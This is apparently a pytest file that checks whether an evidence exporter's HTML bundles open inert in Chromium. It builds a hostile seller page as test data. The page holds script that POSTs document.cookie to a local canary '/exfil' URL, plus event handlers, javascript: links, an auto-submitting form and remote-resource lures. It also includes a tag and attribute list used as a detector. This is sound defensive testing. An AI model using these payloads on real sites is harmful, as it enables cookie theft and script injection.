"""Captured pages are inert in an export bundle: a DOM snapshot full of active content (scripts
that exfiltrate, event handlers, meta refresh, frames, objects, remote styles and pictures,
javascript: links, <base>, SVG script, an auto-submitting form) is exported from a real store,
and every HTML file of the unzipped bundle is opened in real Chromium: no script runs, and no
request leaves but the file itself (report.html: its own screenshots) — checked by the page's
request events and by a canary TCP server the hostile URLs point at, which counts 0
connections. The recorded bytes still verify."""

from __future__ import annotations

import hashlib
import json
import socket
import threading
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from agent.core.states import RunState
from evidence import events as ev
from evidence.bundle import export_bundle
from evidence.report import standalone_report
from evidence.store import EvidenceStore
from tests.evidence.conftest import make_png, new_run
from tests.evidence.test_bundle import run_verifier


class Canary:
    """A TCP server on 127.0.0.1 that counts every connection made to it (a preconnect with
    no request counts too) and answers each with a script that would mark the page."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.1)
        self.port = self.server.getsockname()[1]
        self.connections: list[bytes] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, name="canary", daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        body = b"window.__ran = 'canary';"
        while not self.stopping.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    request = conn.recv(4096)
                except OSError:
                    request = b""
                self.connections.append(request)
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
                conn.sendall(head.encode() + b"Content-Type: text/javascript\r\n\r\n" + body)

    def stop(self) -> None:
        self.stopping.set()
        self.thread.join(5)
        self.server.close()


@pytest.fixture
def canary() -> Any:
    server = Canary()
    yield server
    server.stop()


def hostile_page(canary: str) -> str:
    """A back-office page as a hostile seller center would serve it: everything in it tries
    to run or to reach `canary`; a dispute reviewer needs only the order table."""
    return f"""<!DOCTYPE html>
<html><head>
<base href="{canary}/base/">
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<link rel="stylesheet" href="{canary}/style.css">
<link rel="preconnect" href="{canary}">
<link rel="prefetch" href="{canary}/prefetch">
<link rel="icon" href="{canary}/favicon.ico">
<style>@import url("{canary}/import.css"); body {{ background: url("{canary}/body.png"); }}</style>
<script>window.__ran = "script";
fetch("{canary}/exfil", {{method: "POST", body: document.cookie, mode: "no-cors"}});</script>
<script src="{canary}/remote.js"></script>
</head>
<body onload="window.__ran = 'onload'">
<h1>Order 2611ABCDEFGHIJ</h1>
<table id="order"><tr><th>Buyer</th><td>Ann Lee</td></tr>
<tr><th>Refundable amount</th><td data-field="refundable">12.50 EUR</td></tr></table>
<img src="{canary}/img.png" onerror="window.__ran = 'onerror'" alt="product photo">
<img src="relative.png" alt="resolved through base">
<img srcset="{canary}/srcset.png 2x" alt="srcset">
<picture><source srcset="{canary}/source.png"><img alt="picture"></picture>
<input type="image" src="{canary}/input.png" alt="image button">
<div style="background:url({canary}/inline.png)">boxed note</div>
<div style="background-image: u\\72l({canary}/escaped.png)">escaped css</div>
<table background="{canary}/table.png"><tr><td>legacy background</td></tr></table>
<iframe src="{canary}/iframe"></iframe>
<iframe srcdoc="<script>parent.__ran = 'srcdoc'</script>"></iframe>
<object data="{canary}/object"></object>
<embed src="{canary}/embed">
<video poster="{canary}/poster.png" src="{canary}/video.mp4" autoplay></video>
<audio src="{canary}/audio.mp3" autoplay></audio>
<a href="javascript:window.__ran = 'js-link'">open the javascript link</a>
<a href="data:text/html,<script>alert(1)</script>">a data link</a>
<a href="{canary}/page" ping="{canary}/ping">a web link</a>
<svg width="20" height="20"><script>window.__ran = "svg"</script>
<image href="{canary}/svg.png" width="20" height="20"/></svg>
<form id="f" action="{canary}/form" method="post"><input name="amount" value="999.00">
<button formaction="{canary}/formaction">Submit</button></form>
<input autofocus onfocus="window.__ran = 'onfocus'">
<details open ontoggle="window.__ran = 'ontoggle'"><summary>More</summary>notes</details>
<script>document.getElementById("f").submit();</script>
</body></html>"""


def mhtml_page(canary: str) -> str:
    """The same kind of page as Chromium's MHTML snapshot (`Page.captureSnapshot`)."""
    html = (
        f'<html><head><link rel=3D"stylesheet" href=3D"{canary}/mhtml.css"></head><body>'
        f'<script>window.__ran=3D"mhtml";fetch("{canary}/mhtml-fetch")</script>'
        f'<img src=3D"{canary}/mhtml.png" onerror=3D"window.__ran=3D\'mhtml-onerror\'">'
        f'<iframe src=3D"{canary}/mhtml-iframe"></iframe>Order 2611</body></html>'
    )
    return "\r\n".join(
        [
            "From: <Saved by Blink>",
            f"Snapshot-Content-Location: {canary}/order",
            "Subject: Order",
            "MIME-Version: 1.0",
            'Content-Type: multipart/related; type="text/html"; boundary="----B"',
            "",
            "------B",
            "Content-Type: text/html",
            "Content-Transfer-Encoding: quoted-printable",
            f"Content-Location: {canary}/order",
            "",
            html,
            "------B--",
            "",
        ]
    )


def hostile_run(store: EvidenceStore, canary: str) -> str:
    run = new_run(store)
    store.transition(run.run_id, RunState.PENDING, RunState.RUNNING)
    dom = store.put_dom(hostile_page(canary))
    mhtml = store.put_artifact(
        mhtml_page(canary).encode("utf-8"), kind="mhtml", media_type="multipart/related"
    )
    shots = store.put_screenshot(make_png())
    store.record(
        run.run_id,
        ev.PageReviewed(
            # a URL taken from the page, and page text with markup in it
            url="javascript:window.__ran = 'report-url'",
            title=f"<script>window.__ran = 'report-title'</script><img src={canary}/t.png>",
            extracted={"buyer": f"<img src={canary}/v.png onerror=\"window.__ran='value'\">"},
        ),
        artifacts=[*shots, dom, mhtml],
    )
    store.record(run.run_id, ev.PageReviewed(url=f"{canary}/order/2611", title="Order"))
    store.transition(run.run_id, RunState.RUNNING, RunState.DONE)
    store.finish_run(run.run_id, outputs={"status": "shipped"})
    return run.run_id


@dataclass(frozen=True)
class Visit:
    ran: Any  # window.__ran after the page settled: None when no script ran
    requests: list[str]  # every request of the context, the document's own first
    final_url: str
    pages: int


async def visit(browser: Any, path: Path) -> Visit:
    """Open `path` in a fresh context of the session's Chromium, as a reviewer would."""
    context = await browser.new_context()
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    try:
        page = await context.new_page()
        await page.goto(path.as_uri(), wait_until="load")
        await page.wait_for_timeout(600)  # a 0 s refresh, an autofocus, a timer
        ran = await page.evaluate("() => window.__ran ?? null")
        return Visit(ran, requests, page.url, len(context.pages))
    finally:
        await context.close()


def opened_in_browser(folder: Path) -> list[Path]:
    """Every file of the bundle a browser renders as a document."""
    kinds = (".html", ".htm", ".mhtml", ".html.txt", ".svg", ".xhtml")
    return sorted(p for p in folder.rglob("*") if p.is_file() and p.name.endswith(kinds))


@pytest.fixture
def bundle(store: EvidenceStore, canary: Canary, tmp_path: Path) -> tuple[Path, Path, str]:
    run_id = hostile_run(store, canary.url)
    result = export_bundle(store, [run_id], tmp_path / "bundle.zip")
    folder = tmp_path / "bundle"
    with zipfile.ZipFile(result.path) as zf:
        zf.extractall(folder)
    return result.path, folder, run_id


def test_every_html_file_of_a_bundle_runs_nothing_and_loads_nothing(
    bundle: tuple[Path, Path, str], store: EvidenceStore, canary: Canary, chromium, run, tmp_path
) -> None:
    _, folder, run_id = bundle
    # The canary is reachable from this browser: a page that is not inert reaches it.
    control = tmp_path / "control.html"
    control.write_text(f'<img src="{canary.url}/control.png">')
    run(visit(chromium, control))
    assert canary.connections, "the canary must see a page that is not inert"
    canary.connections.clear()

    report = tmp_path / "standalone.html"
    report.write_text(standalone_report(store, [run_id]), encoding="utf-8")
    files = [*opened_in_browser(folder), report]
    names = {p.relative_to(folder).as_posix() for p in files if p.is_relative_to(folder)}
    assert "report.html" in names
    assert any(n.startswith("dom/") and n.endswith(".view.html") for n in names)
    assert any(n.startswith("dom/") and n.endswith(".html.txt") for n in names)
    assert any(n.endswith(".mhtml") for n in names)

    for path in files:
        seen = run(visit(chromium, path))
        where = path.name
        assert seen.ran is None, f"{where}: a script ran ({seen.ran})"
        assert seen.final_url == path.as_uri(), f"{where}: navigated to {seen.final_url}"
        assert seen.pages == 1, f"{where}: opened a window"
        assert seen.requests[0] == path.as_uri()
        if path.name == "report.html":  # its own screenshots, from the bundle, and nothing else
            others = [u for u in seen.requests[1:] if not u.startswith(folder.as_uri() + "/")]
        else:
            others = seen.requests[1:]
        assert others == [], f"{where} made requests: {others}"
    assert canary.connections == [], f"{len(canary.connections)} connection(s) to the canary"


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(document: str) -> Elements:
    elements = Elements()
    elements.feed(document)
    elements.close()
    return elements


ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "base", "link"}
ACTIVE_TAGS |= {"svg", "video", "audio", "source", "picture", "template", "noscript"}
URL_ATTRIBUTES = {"srcset", "poster", "background", "action", "formaction", "ping", "data"}


def test_every_html_file_opens_with_a_csp_and_holds_nothing_active(
    bundle: tuple[Path, Path, str],
) -> None:
    _, folder, _ = bundle
    pages = sorted(folder.rglob("*.html"))
    assert len(pages) == 2  # report.html and the snapshot's view
    for page in pages:
        elements = parsed(page.read_text("utf-8"))
        tags = [tag for tag, _ in elements.found]
        assert tags[:3] == ["html", "head", "meta"], page.name
        csp = elements.found[2][1]
        assert csp["http-equiv"] == "Content-Security-Policy", page.name
        assert csp["content"].startswith("default-src 'none'; img-src "), csp
        assert "script-src" not in csp["content"] and "connect-src" not in csp["content"]
        assert [t for t in tags if t in ACTIVE_TAGS] == [], page.name
        assert tags.count("style") == 1, "only the file's own stylesheet"
        metas = [attrs for tag, attrs in elements.found if tag == "meta"]
        assert [m.get("http-equiv") for m in metas if "http-equiv" in m] == [csp["http-equiv"]]
        for tag, attrs in elements.found:
            assert not [a for a in attrs if a.startswith("on")], f"{page.name}: {tag} {attrs}"
            assert not URL_ATTRIBUTES & set(attrs), f"{page.name}: {tag} {attrs}"
            if "src" in attrs and page.name != "report.html":
                assert attrs["src"].startswith("data:image/"), attrs
            href = attrs.get("href", "http://")
            # report.html also links the bundle's own files, by relative path
            in_bundle = page.name == "report.html" and ":" not in href and "//" not in href
            assert in_bundle or href.startswith(("http://", "https://", "mailto:")), attrs
            assert "url(" not in attrs.get("style", ""), attrs


def test_the_view_keeps_what_a_reviewer_reads(bundle: tuple[Path, Path, str]) -> None:
    _, folder, _ = bundle
    [view] = folder.glob("dom/*.view.html")
    elements = parsed(view.read_text("utf-8"))
    text = " ".join(" ".join(elements.text).split())
    assert "Order 2611ABCDEFGHIJ" in text
    assert "Buyer Ann Lee" in text and "Refundable amount 12.50 EUR" in text
    assert ("td", {"data-field": "refundable"}) in elements.found
    assert "boxed note" in text and "notes" in text
    inputs = [attrs for tag, attrs in elements.found if tag == "input"]
    assert {"name": "amount", "value": "999.00"} in inputs, "what the form held stays visible"
    assert "Inert copy" in text and ".html.txt" in text, "the view says what it is"


def test_the_recorded_bytes_ship_as_text_and_verify(
    bundle: tuple[Path, Path, str], store: EvidenceStore, tmp_path: Path
) -> None:
    path, folder, run_id = bundle
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    listed = {f["path"]: f for f in manifest["files"]}
    [raw] = folder.glob("dom/*.html.txt")
    sha = raw.name.removesuffix(".html.txt")
    data = raw.read_bytes()
    assert hashlib.sha256(data).hexdigest() == sha
    assert data == store.read_artifact(sha), "the snapshot as stored, unchanged"
    assert b"<script>" in data
    chained = {a for e in store.events(run_id) for a in e.artifacts}
    assert sha in chained
    entry = listed[f"dom/{sha}.html.txt"]
    assert entry["artifact"] == sha and entry["sha256"] == sha
    view = listed[f"dom/{sha}.view.html"]
    assert view["derived_from"] == [sha] and "artifact" not in view
    report = (folder / "report.html").read_text("utf-8")
    assert f'href="dom/{sha}.view.html"' in report
    assert 'href="javascript:' not in report and "window.__ran = &#39;report-url&#39;" in report
    out = run_verifier(path, tmp_path)
    assert out.returncode == 0, out.stdout + out.stderr
